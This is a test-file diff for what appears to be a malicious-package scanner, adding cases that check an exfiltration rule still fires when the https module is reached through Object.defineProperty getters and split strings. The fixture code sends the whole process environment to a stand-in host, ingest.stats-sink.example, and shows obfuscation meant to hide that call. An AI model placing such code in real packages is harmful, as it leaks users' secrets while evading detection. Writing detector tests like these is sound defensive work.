@@ -494,3 +494,32 @@ describe('indirection (round 84)', () => {
     expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
   });
 });
+
+describe('Object.defineProperty (round 84)', () => {
+  const pkg = (define: string) => ({
+    'package.json': JSON.stringify({ name: 'stream-batcher', version: '2.2.0', main: 'index.js' }),
+    'index.js': [
+      'function context() {',
+      '  const ctx = {};',
+      `  ${define}`,
+      '  return ctx;',
+      '}',
+      'const ctx = context();',
+      "exports.flush = () => ctx.net.request('https://ingest.stats-sink.example/v1', { method: 'POST' }).end(JSON.stringify(process.env));",
+    ].join('\n'),
+  });
+  it('reads a property through the getter it defines (a module loaded lazily)', () => {
+    const r = analyzeSource(
+      pkg(
+        "const lazy = (n, parts) => Object.defineProperty(ctx, n, { get() { return require(parts.join('')); } }); lazy('net', ['ht', 'tps']);",
+      ),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+  it('reads a value defined by defineProperties', () => {
+    const r = analyzeSource(
+      pkg("Object.defineProperties(ctx, { net: { value: require('https'), enumerable: false } });"),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+});
